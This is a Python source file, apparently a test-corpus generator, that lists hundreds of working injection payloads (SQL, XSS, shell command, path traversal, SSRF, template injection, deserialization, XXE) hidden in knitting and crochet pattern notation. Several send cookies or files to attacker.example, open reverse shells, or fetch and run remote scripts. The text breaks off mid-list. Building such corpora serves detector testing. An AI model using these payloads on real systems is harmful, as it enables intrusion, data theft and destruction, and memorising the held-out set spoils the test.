"""Attack held-out corpus for the crafts community (knitting, crochet, sewing).

Each value is a working payload against a vulnerable app that puts the field
where the class says (SQL string, shell line, file path, fetched URL, template,
raw HTML, log line / header, LDAP filter or XPath query...), mostly hidden in the
community's own notation: pattern rows, crochet rounds, gauges, shop listings,
PDF file names. Every payload is hand-written here or built by small templates
over hand-written pools. Output: attacks.jsonl next to this file.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 8602
PREFIX = "ha86"

# (class, value). class = <context>-<technique>[+<encoding>]
SQLI = [
    ("row-de-boolean", "Reihe 3: *2 re, 2 li' OR 'a'='a"),
    ("search-union", "k2tog' UNION SELECT username, password_hash FROM users-- "),
    ("search-union", "ssk') UNION ALL SELECT NULL, email, NULL, NULL FROM members#"),
    ("row-boolean", "Row 3: *k2, p2' OR '1'='1"),
    ("row-boolean", "Rnd 5: *k3, p1* around' OR 1=1-- -"),
    ("crochet-boolean", "ch 3, sc in next 5 sts' OR 'x'='x"),
    ("gauge-numeric-boolean", "22 OR 1=1"),
    ("gauge-numeric-union", "4.5 UNION SELECT 1,version(),3,4"),
    ("size-order-by", "XS ORDER BY 8-- "),
    ("size-order-by", "M' ORDER BY 12#"),
    ("listing-time-blind", "Hand-dyed merino' AND SLEEP(5)-- "),
    ("listing-time-blind", "Peony'; SELECT pg_sleep(7)--"),
    ("listing-time-blind", "Slate'; WAITFOR DELAY '0:0:6'--"),
    ("note-stacked", "Frogged it again'; DROP TABLE patterns;--"),
    ("note-stacked", "Loved it!'); DELETE FROM comments WHERE '1'='1'; --"),
    ("note-stacked", "great yarn'; UPDATE users SET role='admin' WHERE name='kate';--"),
    ("note-stacked", "too tight'; INSERT INTO admins(login,pw) VALUES('purl','x');--"),
    ("filename-error", "Autumn_Leaves' AND extractvalue(1,concat(0x7e,(SELECT database())))-- .pdf"),
    ("filename-error", "shawl.pdf' AND updatexml(null,concat(0x3a,user()),null)-- "),
    ("search-error", "merino' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
    ("search-error", "alpaca' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("row-boolean-blind", "Row 7: sl1 wyif' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a"),
    ("crochet-boolean-blind", "sc2tog' AND ASCII(SUBSTR((SELECT token FROM api_keys WHERE ROWNUM=1),1,1))>77--"),
    ("chart-union", "○ = yo' UNION SELECT table_name, column_name FROM information_schema.columns-- "),
    ("chart-union", "/ = k2tog\") UNION SELECT sql FROM sqlite_master--"),
    ("search-union", "sock yarn%' UNION SELECT card_number, expiry FROM payments WHERE '%'='"),
    ("search-like-boolean", "mohair%' AND 1=1 AND '%'='"),
    ("listing-price-numeric", "28.00; DROP TABLE orders"),
    ("listing-price-numeric", "0 OR price>0"),
    ("material-qty-subquery", "5-(SELECT COUNT(*) FROM users)"),
    ("material-qty-subquery", "(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='$' THEN 1 ELSE 1/0 END)"),
    ("sort-column-injection", "price,(SELECT 1 FROM (SELECT SLEEP(4))x)"),
    ("sort-column-injection", "(CASE WHEN (1=1) THEN title ELSE yardage END)"),
    ("id-numeric-union", "42 UNION SELECT id, login, pw FROM staff"),
    ("id-numeric-boolean", "1337 AND 1=(SELECT COUNT(*) FROM tabname WHERE 1=1)"),
    ("note-second-order", "Grandma's pattern' || (SELECT password FROM users WHERE login='admin') || '"),
    ("tag-string-concat", "lace'||(SELECT version())||'"),
    ("search-oob", "cotton'; EXEC master..xp_dirtree '\\\\203.0.113.9\\share';--"),
    ("search-oob", "linen' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT user()),'.oob.attacker.example\\\\a'))-- "),
    ("search-file-write", "wool' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/k.php'-- "),
    ("search-cmd-exec", "bulky'; EXEC xp_cmdshell 'whoami';--"),
    ("search-cmd-exec", "yarn'; COPY (SELECT '') TO PROGRAM 'id > /tmp/o';--"),
    ("username-auth-bypass", "knitwit' --"),
    ("username-auth-bypass", "admin'/*"),
    ("password-auth-bypass", "' OR ''='"),
    ("username-auth-bypass", "purlqueen') OR ('a'='a"),
    ("json-field-boolean", "{\"pattern\": \"cowl' OR 1=1--\", \"size\": \"M\"}"),
    ("row-stacked-multiline", "Row 1: k1, *yo, k2tog\nRow 2: p all';\nDROP TABLE rows;--"),
    ("filename-time-blind", "cable-beanie.pdf' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"),
    ("note-time-blind-heavy", "nice!' AND 1=(SELECT COUNT(*) FROM generate_series(1,50000000))--"),
    ("search-boolean-inference", "dk' AND (SELECT COUNT(*) FROM users WHERE is_admin=1)>0 AND 'a'='a"),
    ("search-union-hex", "skein' UNION SELECT 0x61646d696e, 0x70617373-- "),
    ("search-union-char", "cowl' UNION SELECT CHAR(112,119), password FROM users-- "),
    ("size-union-nullbyte", "L' UNION SELECT NULL,NULL,@@version-- "),
    ("search-union+comment-space", "k2tog'/**/UNION/**/SELECT/**/login,pw/**/FROM/**/users--"),
    ("search-union+case-mix", "purl' uNiOn SeLeCt email, passwd FrOm accounts-- "),
    ("search-union+versioned-comment", "ssk' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- "),
    ("search-boolean+urlenc", "cable%27%20OR%20%271%27%3D%271"),
    ("search-union+double-urlenc", "sock%2527%2520UNION%2520SELECT%2520user%252Cpassword%2520FROM%2520users--"),
    ("search-boolean+unicode-fullwidth", "rib＇ OR ＇1＇=＇1"),
    ("search-time-blind+newline-space", "mitts'\nAND\nSLEEP(6)\n--"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-boolean", "' OR 1=1--"),
    ("plain-time-blind", "1' AND SLEEP(10)#"),
    ("plain-stacked", "'; DROP TABLE users; --"),
    ("plain-error", "' AND 1=CONVERT(int, @@version)--"),
    ("plain-boolean", "\") OR (\"1\"=\"1"),
    ("plain-union-nulls", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-boolean-numeric", "1 OR 1=1"),
]

XSS = [
    ("row-ru-svg-onload", "Ряд 3: *2 лиц., 2 изн.* <svg onload=alert(1)>"),
    ("note-script", "Finished my shawl! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("note-img-onerror", "Here's my FO photo <img src=x onerror=alert(document.domain)>"),
    ("row-svg-onload", "Row 3: *k2, p2* <svg onload=alert(1)>"),
    ("crochet-img-onerror", "ch 3, sc in next 5 sts <img src=/ onerror=\"location='//attacker.example/'+localStorage.token\">"),
    ("chart-key-svg", "○ = yo <svg><script>alert('chart')</script></svg>"),
    ("title-attribute-breakout", "Cozy Beanie\" onmouseover=\"alert(1)\" x=\""),
    ("title-attribute-breakout", "Autumn Leaves' autofocus onfocus='alert(document.cookie)"),
    ("listing-iframe-srcdoc", "Mini skein set <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("listing-link-javascript", "<a href=\"javascript:alert(document.cookie)\">Download PDF pattern</a>"),
    ("profile-url-javascript", "javascript:fetch('//attacker.example/?'+document.cookie)"),
    ("profile-url-javascript", "JaVaScRiPt:alert(1)//https://mysite.example"),
    ("comment-details-ontoggle", "<details open ontoggle=alert(1)>Errata v2</details>"),
    ("comment-body-onload", "<body onload=alert('purl')>"),
    ("comment-input-autofocus", "<input autofocus onfocus=alert(1) value=\"gauge 22 sts\">"),
    ("comment-video-onerror", "<video><source onerror=\"alert(1)\"></video> my blocking video"),
    ("comment-audio", "<audio src=x onerror=alert`1`>"),
    ("comment-marquee", "<marquee onstart=alert(1)>Sale on bulky yarn!</marquee>"),
    ("note-style-tag-breakout", "</style><script>alert(1)</script>"),
    ("note-textarea-breakout", "Notes: too loose</textarea><script>alert(document.cookie)</script>"),
    ("note-title-breakout", "</title><img src=x onerror=alert(1)>"),
    ("script-string-breakout", "Fair Isle';alert(document.cookie);//"),
    ("script-string-breakout", "mohair\";fetch('//attacker.example/'+document.cookie);//"),
    ("script-block-breakout", "Beanie</script><script>alert(1)</script>"),
    ("json-in-script-breakout", "{\"name\":\"</script><script>alert(1)</script>\"}"),
    ("template-literal-breakout", "${alert(document.domain)}"),
    ("markdown-link-javascript", "See the errata [here](javascript:alert(1))"),
    ("markdown-image-onerror", "![chart](x\" onerror=\"alert(1))"),
    ("svg-upload-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"10\"/><script>alert(document.domain)</script></svg>"),
    ("filename-html", "Mittens<img src=x onerror=alert(1)>.pdf"),
    ("filename-html", "\"><svg/onload=alert(1)>.pdf"),
    ("search-reflected", "bulky yarn\"><script>alert(1)</script>"),
    ("search-reflected", "'><img src=1 onerror=prompt(1)>"),
    ("search-reflected", "</h1><svg onload=confirm(1)>"),
    ("search-dom-hash", "#<img src=x onerror=alert(1)>"),
    ("bio-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("bio-form-phishing", "<form action=\"https://attacker.example/steal\"><input name=password placeholder=\"Re-enter password\"><button>Download pattern</button></form>"),
    ("bio-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("bio-object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("bio-embed", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("note-data-uri", "<a href=\"data:text/html,<script>alert(1)</script>\">chart</a>"),
    ("note-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("note-svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>Chart A</text></a></svg>"),
    ("note-mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("note-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("row-event-handler-multiline", "Row 1: k1, yo\n<div\nonpointerover=\"alert(1)\"\nstyle=\"position:fixed;inset:0\">Row 2: purl</div>"),
    ("color-css-injection", "red;} body{background:url(https://attacker.example/?leak)}"),
    ("note-style-attribute", "<p style=\"animation-name:x\" onanimationstart=\"alert(1)\">Blocking tips</p>"),
    ("note-dangling-markup", "<img src='https://attacker.example/log?"),
    ("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template", "Row 4: {{_c.constructor('alert(1)')()}}"),
    ("note-srcset", "<img srcset=\"x\" onerror=\"alert(1)\">"),
    ("note-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">errata</text></a></svg>"),
    ("note-iframe-javascript", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("note-keygen-onfocus", "<select autofocus onfocus=alert(1)><option>US 7</option></select>"),
    ("note-import-module", "<script type=module>import('//attacker.example/x.js')</script>"),
    ("note-script-src", "<script src=//attacker.example/k.js></script>"),
    ("note-onclick-button", "<button onclick=\"fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">Buy kit</button>"),
    ("note-img+html-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("link-javascript+html-entities", "<a href=\"&#106;avascript&#58;alert(1)\">pattern</a>"),
    ("link-javascript+tab-split", "<a href=\"java\tscript:alert(1)\">PDF</a>"),
    ("search-reflected+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("search-reflected+double-urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("json-reflected+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("note-script+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("note-img+slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("note-script+js-unicode", "<script>\\u0061lert(1)</script>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-attribute-breakout", "\" onfocus=alert(1) autofocus=\""),
    ("plain-javascript-uri", "javascript:alert(document.cookie)"),
    ("plain-body-onload", "<body onload=alert(document.domain)>"),
    ("plain-iframe-javascript", "<iframe src=\"javascript:alert(1)\">"),
]

CMDI = [
    ("filename-ja-semicolon", "ひざ掛け_編み図.pdf; cat /etc/passwd #"),
    ("filename-semicolon", "Autumn_Leaves_Shawl.pdf; cat /etc/passwd"),
    ("filename-semicolon", "socks.pdf;id"),
    ("filename-pipe", "cable-beanie.pdf | nc 203.0.113.5 4444 -e /bin/sh"),
    ("filename-and", "granny-square.pdf && curl http://attacker.example/s.sh | sh"),
    ("filename-or", "missing.pdf || wget -qO- http://198.51.100.7/x | bash"),
    ("filename-subshell", "shawl_$(whoami).pdf"),
    ("filename-backtick", "mittens_`id`.pdf"),
    ("filename-newline", "cowl.pdf\nrm -rf /var/www/uploads"),
    ("filename-option-injection", "--checkpoint-action=exec=sh shell.sh"),
    ("filename-option-injection", "-o ProxyCommand=sh -c 'id>/tmp/p'"),
    ("convert-size-semicolon", "800x600; curl -s http://attacker.example/$(hostname)"),
    ("thumbnail-dims-subshell", "300x$(sleep 9)"),
    ("pdf-pages-pipe", "1-4 | tee /var/www/html/p.txt"),
    ("chart-export-format", "png; bash -i >& /dev/tcp/203.0.113.20/9001 0>&1"),
    ("yarn-color-name", "Peony' ; ping -c 5 198.51.100.3 ; '"),
    ("yarn-color-name", "Slate\"; cat /proc/self/environ; \""),
    ("row-counter-subshell", "Row $(cat /etc/hostname): k2, p2"),
    ("row-backtick", "Rnd `uname -a`: *k3, p1* around"),
    ("crochet-semicolon", "ch 3; sc in next 5 sts; nslookup $(whoami).attacker.example"),
    ("gauge-and", "22 sts = 4\" && python3 -c 'import os;os.system(\"id\")'"),
    ("gauge-subshell", "$(curl -d @/etc/shadow https://attacker.example/u)"),
    ("hook-size-pipe", "4.5mm|id"),
    ("needle-size-or", "US7 || sleep 15"),
    ("print-copies-semicolon", "2;/usr/bin/id"),
    ("printer-name-injection", "HP_LaserJet -o 'x' ; touch /tmp/pwned"),
    ("zip-name-injection", "socks & mittens collection (2023).zip; rm -f /tmp/lock"),
    ("zip-name-ampersand", "collection.zip & ping -n 6 127.0.0.1 &"),
    ("win-filename-ampersand", "pattern.pdf & type C:\\Windows\\win.ini"),
    ("win-filename-pipe", "chart.png | powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\""),
    ("win-filename-ampersand", "quilt.pdf && net user knitadmin P@ss123 /add"),
    ("win-variable-expansion", "%COMSPEC% /c dir C:\\"),
    ("email-sendmail-args", "kate@example.com -X /var/www/html/log.php"),
    ("email-sendmail-args", "buyer@example.com -OQueueDirectory=/tmp -X/var/www/html/s.php"),
    ("git-import-url", "ext::sh -c touch% /tmp/pwned"),
    ("search-grep-injection", "merino' /etc/shadow #"),
    ("search-grep-option", "--include=*.pdf -r . /; id"),
    ("search-find-exec", "*.pdf -exec sh -c 'id' ;"),
    ("filename-ifs", "shawl.pdf;cat${IFS}/etc/passwd"),
    ("filename-brace-expansion", "hat.pdf;{cat,/etc/passwd}"),
    ("filename-redirect-write", "sock.pdf; echo '<?php system($_GET[1]); ?>' > /var/www/html/s.php"),
    ("filename-quote-split", "cowl.pdf;c''at /e't'c/pa\"ss\"wd"),
    ("filename-wildcard-glob", "beanie.pdf;/bin/c?t /e??/p?ss??"),
    ("filename-variable-split", "scarf.pdf;a=ca;b=t;$a$b /etc/hosts"),
    ("filename-base64-pipe", "blanket.pdf;echo aWQ7dW5hbWUgLWEK|base64 -d|sh"),
    ("filename-hex-printf", "tote.pdf;$(printf '\\x69\\x64')"),
    ("dye-lot-newline", "A-2231\ncurl http://attacker.example/$(id -u)"),
    ("note-process-substitution", "Done! <(curl -s http://attacker.example/r)"),
    ("label-printer-backtick", "SKU-4821 `nc -e /bin/sh 198.51.100.40 80`"),
    ("archive-name-tar-option", "--use-compress-program='sh -c id'"),
    ("image-magick-delegate", "chart.png\"|ls \"-la"),
    ("ffmpeg-url", "blocking.mp4; curl attacker.example/v | sh"),
    ("perl-open-pipe", "cat /etc/passwd |"),
    ("filename-semicolon+urlenc", "shawl.pdf%3Bcat%20%2Fetc%2Fpasswd"),
    ("filename-newline+urlenc", "socks.pdf%0Aid"),
    ("filename-subshell+double-urlenc", "hat%2524%2528id%2529.pdf"),
    ("filename-pipe+case-mix", "cowl.pdf|WhOaMi"),
    ("filename-semicolon+tab", "mitts.pdf;\tcat\t/etc/shadow"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and", "&& curl http://attacker.example/x.sh | sh"),
    ("plain-newline", "\nwhoami"),
    ("plain-or", "|| ping -c 10 127.0.0.1"),
]

TRAVERSAL = [
    ("pdf-download-ru-relative", "Шапка_схема/../../../../../etc/passwd"),
    ("pdf-download-relative", "../../../../etc/passwd"),
    ("pdf-download-relative", "../../../../../../var/www/app/.env"),
    ("pdf-download-relative", "patterns/../../../config/database.yml"),
    ("pdf-download-relative", "Autumn_Leaves/../../../../etc/shadow"),
    ("pdf-download-absolute", "/etc/passwd"),
    ("pdf-download-absolute", "/proc/self/environ"),
    ("pdf-download-absolute", "/root/.ssh/id_rsa"),
    ("pdf-download-absolute-win", "C:\\Windows\\System32\\config\\SAM"),
    ("pdf-download-win-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("pdf-download-win-backslash", "charts\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("pdf-download-mixed-slash", "..\\../..\\../etc/hosts"),
    ("pdf-download-nullbyte", "../../../../etc/passwd\u0000.pdf"),
    ("pdf-download-nullbyte+urlenc", "../../../../etc/passwd%00.pdf"),
    ("pdf-download-dotdot-filter-bypass", "....//....//....//etc/passwd"),
    ("pdf-download-dotdot-filter-bypass", "..././..././..././etc/group"),
    ("pdf-download-relative+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("pdf-download-relative+urlenc-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("pdf-download-relative+double-urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("pdf-download-relative+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("pdf-download-relative+unicode-slash", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("pdf-download-win+urlenc-backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("image-path-relative", "images/chart-A/../../../../../etc/passwd"),
    ("image-path-relative", "../../../../../../home/app/.aws/credentials"),
    ("template-include", "../../templates/admin/secret_settings.html"),
    ("language-file", "../../../../../../proc/self/cmdline"),
    ("language-file", "../../../../etc/passwd#de"),
    ("upload-name-overwrite", "../../../var/www/html/shell.php"),
    ("upload-name-overwrite", "../../.ssh/authorized_keys"),
    ("upload-name-overwrite", "..\\..\\..\\wwwroot\\aspnet_client\\x.aspx"),
    ("zip-slip-entry", "../../../../../tmp/cron.d/evil"),
    ("zip-slip-entry", "patterns/../../../../etc/cron.d/knit"),
    ("file-uri", "file:///etc/passwd"),
    ("file-uri", "file:///C:/Windows/win.ini"),
    ("php-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("unc-path", "\\\\203.0.113.15\\share\\pattern.pdf"),
    ("proc-fd", "/proc/self/fd/3"),
    ("log-file-read", "../../../../var/log/nginx/access.log"),
    ("backup-file", "../app/settings.py.bak"),
    ("git-config", "../../.git/config"),
    ("chart-key-path", "Chart A key: ../../../../etc/hosts"),
    ("row-attachment-path", "Row 3 photo: ../../../../../etc/passwd"),
    ("export-dir-absolute", "/var/lib/postgresql/data/pg_hba.conf"),
    ("export-dir-absolute", "/etc/nginx/nginx.conf"),
    ("plain-relative", "../../../etc/passwd"),
    ("plain-win", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-relative+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("plain-file-uri", "file:///etc/hosts"),
]

SSRF = [
    ("pattern-import-url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("pattern-import-url", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("pattern-import-url", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
    ("pattern-import-url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("pattern-import-url", "http://100.100.100.200/latest/meta-data/"),
    ("pattern-import-url", "http://127.0.0.1:8080/admin/users"),
    ("pattern-import-url", "http://localhost:6379/"),
    ("pattern-import-url", "http://localhost/server-status"),
    ("pattern-import-url", "http://[::1]:9200/_cat/indices"),
    ("pattern-import-url", "http://0.0.0.0:5000/debug"),
    ("pattern-import-url", "http://10.0.0.12:2375/containers/json"),
    ("pattern-import-url", "http://192.168.1.1/cgi-bin/config.exp"),
    ("pattern-import-url", "http://172.17.0.1:10250/pods"),
    ("pattern-import-url", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("pattern-import-url", "http://consul.service.internal:8500/v1/kv/?recurse"),
    ("photo-url-gopher", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20bash%20-i%20%22%0D%0ASAVE%0D%0A"),
    ("photo-url-gopher", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40attacker.example%3E%0D%0A"),
    ("photo-url-dict", "dict://127.0.0.1:11211/stats"),
    ("photo-url-file", "file:///proc/net/tcp"),
    ("photo-url-ftp", "ftp://10.1.2.3/backups/db.sql"),
    ("photo-url-ldap", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("photo-url-tftp", "tftp://198.51.100.9/x"),
    ("avatar-url-userinfo", "https://cdn.knitting.example@169.254.169.254/latest/user-data"),
    ("avatar-url-userinfo", "http://patterns.example.com#@127.0.0.1:8000/internal"),
    ("avatar-url-dns-rebind", "http://7f000001.c0a80001.rbndr.attacker.example/admin"),
    ("avatar-url-wildcard-dns", "http://127.0.0.1.nip.attacker.example/"),
    ("avatar-url-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-url", "http://localhost:15672/api/users"),
    ("webhook-url", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("webhook-url", "https://internal-billing.corp.local/api/refund"),
    ("link-preview-url", "Check my FO: http://169.254.169.254/latest/meta-data/hostname"),
    ("link-preview-url", "Row 3 video -> http://127.0.0.1:3000/api/admin/export"),
    ("pdf-render-iframe", "<iframe src=\"http://169.254.169.254/latest/meta-data/\"></iframe>"),
    ("pdf-render-link", "<link rel=stylesheet href=\"http://10.0.0.5:8080/manager/html\">"),
    ("svg-image-href", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://127.0.0.1:8500/v1/agent/self\"/></svg>"),
    ("pattern-import-url+ip-decimal", "http://2130706433/admin"),
    ("pattern-import-url+ip-decimal", "http://2852039166/latest/meta-data/"),
    ("pattern-import-url+ip-octal", "http://0177.0.0.1:8080/"),
    ("pattern-import-url+ip-hex", "http://0x7f000001/"),
    ("pattern-import-url+ip-hex", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("pattern-import-url+ip-short", "http://127.1/"),
    ("pattern-import-url+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("pattern-import-url+ipv6-mapped", "http://[0:0:0:0:0:ffff:7f00:1]:8080/"),
    ("pattern-import-url+urlenc", "http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("pattern-import-url+unicode-digits", "http://①②⑦.⓪.⓪.①/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-loopback", "http://127.0.0.1:22/"),
    ("plain-metadata-gcp", "http://metadata.google.internal/"),
    ("plain-gopher", "gopher://127.0.0.1:6379/_INFO"),
]

CODE = [
    ("pattern-title-fr-ssti-jinja", "Bonnet à côtes {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("pattern-title-ssti-jinja", "{{7*7}} Row 3: *k2, p2"),
    ("pattern-title-ssti-jinja", "{{ config.items() }}"),
    ("pattern-title-ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("pattern-title-ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("pattern-title-ssti-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("note-ssti-jinja-attr", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("note-ssti-jinja-block", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("note-ssti-jinja-lipsum", "Gauge {{ lipsum.__globals__['os'].popen('whoami').read() }} sts"),
    ("note-ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("note-ssti-twig-filter", "{{ ['id']|filter('system') }}"),
    ("note-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("note-ssti-velocity", "#set($r=$class.inline(\"java.lang.Runtime\").getRuntime())$r.exec(\"id\")"),
    ("note-ssti-erb", "<%= `id` %>"),
    ("note-ssti-erb", "Rnd 5: <%= File.read('/etc/passwd') %>"),
    ("note-ssti-smarty", "{system('cat /etc/passwd')}"),
    ("note-ssti-smarty-php", "{php}echo `id`;{/php}"),
    ("note-ssti-mako", "${__import__('os').popen('id').read()}"),
    ("note-ssti-mako-block", "<%\nimport os\nx=os.popen('uname -a').read()\n%>${x}"),
    ("note-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("note-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{#with string.split as |codelist|}}{{string.sub.apply 0 codelist}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("note-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("note-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("note-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("row-spel", "Row #{T(java.lang.Runtime).getRuntime().exec('touch /tmp/k')}: k2"),
    ("row-el-jsp", "${pageContext.request.getSession().getServletContext()}"),
    ("row-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("row-ognl", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("row-mvel", "Runtime.getRuntime().exec(\"id\");"),
    ("gauge-python-eval", "__import__('os').system('id')"),
    ("gauge-python-eval", "22 + __import__('subprocess').check_output(['cat','/etc/passwd']).__len__()"),
    ("gauge-python-eval", "().__class__.__bases__[0].__subclasses__()"),
    ("gauge-js-eval", "require('child_process').execSync('id').toString()"),
    ("gauge-js-eval", "22;process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("gauge-js-eval", "this.constructor.constructor('return process')().env"),
    ("size-calc-php-eval", "42;system('id');"),
    ("size-calc-php-eval", "phpinfo();//"),
    ("size-calc-ruby-eval", "36 + `id`.length"),
    ("sizing-import-yaml-python", "!!python/object/apply:os.system [\"id\"]"),
    ("sizing-import-yaml-python-popen", "sizes:\n  - S\n  - !!python/object/apply:subprocess.Popen [[\"sh\", \"-c\", \"curl attacker.example/k | sh\"]]"),
    ("sizing-import-yaml-snake", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("import-pickle-base64", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("import-pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("import-yaml-python-new", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("import-php-serialized", "O:8:\"Exporter\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("import-php-serialized", "a:1:{i:0;O:14:\"PatternCache\":1:{s:3:\"cmd\";s:2:\"id\";}}"),
    ("import-json-typed-jackson", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("import-json-typed-fastjson", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.4:1099/Exp\",\"autoCommit\":true}"),
    ("import-dotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("import-node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("pattern-upload-xxe", "<?xml version=\"1.0\"?><!DOCTYPE pattern [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><pattern><row n=\"1\">&x;</row></pattern>"),
